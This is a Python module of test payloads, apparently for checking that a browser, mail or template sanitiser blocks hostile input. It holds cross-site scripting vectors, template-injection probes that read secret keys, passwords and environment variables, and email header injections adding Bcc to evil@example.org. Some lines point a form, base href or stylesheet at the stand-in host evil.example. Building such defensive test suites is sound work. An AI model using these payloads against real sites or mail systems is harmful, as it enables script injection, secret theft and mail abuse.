"""What hostile articles would like a browser, a mail program or a template to do.

Each script of them calls `canary`, which the tests put into every page: a bird that
sings has been heard. They are our own, by the ways in which filters are known to fail:
an element that was forgotten, an attribute, an address, an end of the text that the
words stand in, a parser that reads twice and differently, another language's braces.
"""

from __future__ import annotations

SONG = "canary()"
_AS_ADDRESS = f"javascript:{SONG}"
_ENCODED = "".join(f"&#{ord(letter)};" for letter in _AS_ADDRESS)

ELEMENTS = (
    f"<script>{SONG}</script>",
    f"<ScRiPt >{SONG}</sCrIpT >",
    f"<script\n>{SONG}</script\n>",
    f"<script/x>{SONG}</script>",
    f"<script type=module>{SONG}</script>",
    f"<scr<script>ipt>{SONG}</scr</script>ipt>",
    f"<img src=x onerror={SONG}>",
    f"<img src=x onerror='{SONG}'//",
    f'<img/src="x"/onerror="{SONG}">',
    f"<svg onload={SONG}>",
    f"<svg><script>{SONG}</script></svg>",
    f"<svg><animate onbegin={SONG} attributeName=x dur=1s>",
    f"<svg><set onbegin={SONG} attributeName=x to=y>",
    f"<svg><a xlink:href='{_AS_ADDRESS}'><text x=9 y=9>press</text></a></svg>",
    f"<math><maction actiontype=statusline xlink:href='{_AS_ADDRESS}'>press</maction></math>",
    f"<body onload={SONG}>",
    f"<video><source onerror={SONG}></video>",
    f"<audio src=x onerror={SONG}></audio>",
    f"<input autofocus onfocus={SONG}>",
    f"<select autofocus onfocus={SONG}></select>",
    f"<textarea autofocus onfocus={SONG}></textarea>",
    f"<details open ontoggle={SONG}><summary>x</summary></details>",
    f"<div style='animation:a 1s' onanimationstart={SONG}><style>@keyframes a{{}}</style></div>",
    f"<iframe src='{_AS_ADDRESS}'></iframe>",
    f'<iframe srcdoc="<script>parent.{SONG}</script>"></iframe>',
    f"<object data='{_AS_ADDRESS}'></object>",
    f"<embed src='{_AS_ADDRESS}'>",
    f"<form action='{_AS_ADDRESS}'><button autofocus>press</button></form>",
    f"<button form=words formaction='{_AS_ADDRESS}'>press</button>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken></form>",
    f"<meta http-equiv=refresh content='0;url={_AS_ADDRESS}'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{SONG}</script>'>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/)}</style>",
    f"<a href='{_AS_ADDRESS}' autofocus onfocus={SONG}>press</a>",
    f"<marquee onstart={SONG}>x</marquee>",
    f"<div hx-get=/ hx-trigger=load hx-on::load='{SONG}' hx-vals='js:{{a:{SONG}}}'>x</div>",
    f"<template><script>{SONG}</script></template>",
)
ENDS = (
    f"</title><script>{SONG}</script>",
    f"</textarea><script>{SONG}</script>",
    f"</style><script>{SONG}</script>",
    f"</script><script>{SONG}</script>",
    f"</pre></section><img src=x onerror={SONG}>",
    f"--><script>{SONG}</script><!--",
    f"]]><script>{SONG}</script>",
    f"<![CDATA[<script>{SONG}</script>]]>",
    f"<![endif]--><script>{SONG}</script>",
    f"<!--[if mso]><script>{SONG}</script><![endif]-->",
    f'" autofocus onfocus={SONG} x="',
    f"' autofocus onfocus={SONG} x='",
    f"` onmouseover={SONG} x=`",
    f'"><img src=x onerror={SONG}>',
    f"'><svg onload={SONG}>",
    f"</mj-text></mj-column><mj-raw><script>{SONG}</script></mj-raw>",
    f'<noscript><p title="</noscript><img src=x onerror={SONG}>">',
    f'<svg></p><style><a id="</style><img src=x onerror={SONG}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={SONG}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={SONG}>",
    f'<xmp><img alt="</xmp><img src=x onerror={SONG}>">',
    f"&lt;script&gt;{SONG}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={SONG}&amp;gt;",
    f"\u003cscript\u003e{SONG}\u003c/script\u003e",
    f"＜script＞{SONG}＜/script＞",
    f"\u2028<script>{SONG}</script>\u2029",
)
ADDRESSES = (
    _AS_ADDRESS,
    f" {_AS_ADDRESS}",
    f"JaVaScRiPt:{SONG}",
    f"java\tscript:{SONG}",
    f"java\nscript:{SONG}",
    f"\x01javascript:{SONG}",
    _ENCODED,
    f"vbscript:{SONG}",
    f"data:text/html,<script>{SONG}</script>",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{SONG}'/>",
    f'https://news.example/" onfocus={SONG} x="',
    f"https://news.example/'><script>{SONG}</script>",
    f"//evil.example/<script>{SONG}</script>",
    "file:///etc/passwd",
    "blob:https://news.example/1",
    "https://user@evil.example/",
)
WORKED_OUT = "53540359"  #: what a template that ran over words would have made of some
TEMPLATES = (
    "{{7919*6761}}",
    "{{ 53540000|add:359 }}",
    "{% debug %}",
    "{% load i18n %}{% csrf_token %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "${7919*6761}",
    "#{7919*6761}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ ''.__class__.__mro__ }}",
    "%(name)s %s {0} {name}",
    "https://0123456789abcdef.invalid/unsubscribe",
)
HEADERS = (
    "x\r\nX-Owned: 1",
    "x\nBcc: evil@example.org",
    "x\rBcc: evil@example.org",
    "x\u2028X-Owned: 1",
    "x\x85X-Owned: 1",
    "x\r\n\r\n<script>canary()</script>",
    "x <evil@example.org>, y",
    '"x" <evil@example.org>',
    "=?utf-8?q?x=0D=0AX-Owned=3A_1?=",
)
WORDS = (*ELEMENTS, *ENDS, *TEMPLATES)
PARCELS = tuple(WORDS[at : at + 20] for at in range(0, len(WORDS), 20))  #: an issue each
